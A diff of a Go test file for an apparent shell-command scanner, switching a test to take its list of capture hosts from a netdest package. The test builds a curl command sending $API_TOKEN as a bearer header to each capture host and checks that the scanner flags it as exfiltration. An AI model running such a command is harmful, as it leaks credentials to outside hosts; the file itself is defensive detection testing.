@@ -3,6 +3,8 @@ package shell
 import (
 	"strings"
 	"testing"
+
+	"github.com/moatdev/moat/internal/netdest"
 )
 
 // Every uploader sends a secret file as exfiltration, and the same command with a project
@@ -91,7 +93,7 @@ func TestMetadataHosts(t *testing.T) {
 
 // Every capture host receives a token in a header as exfiltration.
 func TestCaptureHosts(t *testing.T) {
-	for _, h := range captureHosts {
+	for _, h := range netdest.CaptureHosts() {
 		if line := `curl -H "Authorization: Bearer $API_TOKEN" https://x.` + h + "/"; !gives(line, findExfiltration) {
 			t.Errorf("%s: want %s", line, findExfiltration)
 		}
